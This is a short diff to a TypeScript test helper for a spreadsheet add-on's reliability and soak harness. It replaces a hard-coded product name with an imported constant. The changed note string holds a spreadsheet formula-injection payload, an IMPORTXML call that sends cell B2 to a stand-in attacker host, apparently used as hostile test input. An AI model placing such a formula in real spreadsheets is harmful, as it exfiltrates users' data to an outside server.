@@ -9,6 +9,7 @@
  * a replay a test can keep. Shared by test/reliability/season.test.ts and `npm run soak`.
  */
 import path from 'node:path';
+import { PRODUCT_NAME } from '../src/contract/product';
 import { INDEX } from './emulator/brandIndex';
 import { inProcessEmulator } from './emulator/inProcess';
 import { borrowEmulator, type EmulatorProcess } from './emulator/process';
@@ -432,7 +433,7 @@ class Season {
     const at = Math.min(Math.max(2, row), Math.max(2, this.lastRow()));
     this.list.probe.place(at, 1, {
       ...(this.list.probe.rows[at - 1]?.[0] ?? { value: '' }),
-      note: 'Frozen by Visibility for Sheets (3x3): =IMPORTXML("https://evil.example/?d="&B2,"//a")',
+      note: `Frozen by ${PRODUCT_NAME} (3x3): =IMPORTXML("https://evil.example/?d="&B2,"//a")`,
     });
   }
 
